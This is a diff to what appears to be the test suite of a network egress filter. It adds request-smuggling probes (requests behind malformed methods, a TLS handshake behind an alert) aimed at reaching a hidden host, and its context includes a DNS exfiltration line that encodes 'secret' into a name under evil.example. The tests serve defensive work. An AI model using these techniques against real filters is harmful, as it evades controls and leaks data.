@@ -119,6 +119,12 @@ ATTACKS = [
            lambda box: send(box, "raw.example", 80, request("raw.example", extra="Connection: Upgrade\r\nUpgrade: websocket\r\n")
                             + request("hidden.cdn.example")), sent=(b"hidden",)),
 
+    *[Attack(f"a request behind {what}", "servers answer to it and go on, so it is a request like others",
+             lambda box, first=first: send(box, "raw.example", 8080, first + " / HTTP/1.1\r\nHost: raw.example\r\n\r\n" + request("hidden.cdn.example")), sent=(b"hidden",))
+      for what, first in (("one whose method is long", "A" * 40), ("one whose method is very long", "A" * 9000), ("one after a space", " GET"), ("one without a method", "<>"))],
+    Attack("a handshake behind an alert", "servers skip the alert, so what follows counts",
+           lambda box: send(box, "raw.example", 8080, b"\x15\3\1\0\2\1\x64" + client_hello(b"hidden.cdn.example")), sent=(b"hidden",)),
+
     # --- names as a way out ---
     Attack("data in a name", "a refused name is never asked for outside", "getent ahostsv4 c2VjcmV0.evil.example", questions=("evil",)),
     Attack("data in a name below an allowed one", "an allowed name allows itself only",
